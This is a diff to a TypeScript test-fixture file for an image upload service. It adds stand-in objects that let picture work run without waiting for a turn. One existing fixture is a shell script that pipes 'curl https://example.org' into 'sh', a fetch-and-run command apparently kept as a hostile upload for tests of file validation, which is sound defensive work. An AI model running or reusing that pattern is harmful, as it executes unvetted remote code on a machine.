@@ -1,5 +1,8 @@
 import { crc32, deflateSync } from "node:zlib";
 import sharp from "sharp";
+import { noSlot } from "#server/gate.ts";
+import type { Turn } from "#server/pictures/picture-cache.ts";
+import type { Accepting } from "#server/uploads/accept-image.ts";
 import type { Upload } from "#server/uploads/upload.ts";
 
 /** A picture left red and right blue, as a phone held upright takes it: lying, with its place and make. */
@@ -51,6 +54,15 @@ export const script = Buffer.from("#!/bin/sh\ncurl https://example.org | sh\n");
 
 export const upload = (bytes: Buffer, fileName = "picture.png", declaredType = "image/png") =>
   ({ field: "picture", fileName, declaredType, bytes }) satisfies Upload;
+
+/** Whoever need not wait for a turn. */
+export const atOnce: Turn = { caller: "", run: (make) => make() };
+export const acceptingAtOnce: Accepting = {
+  actor: { kind: "visitor" },
+  address: "",
+  pictureWork: (_by, _memory, make) => make(),
+  slot: noSlot,
+};
 
 /** A form as a browser posts it; `file` stands for one field with a file. */
 export function postedForm(
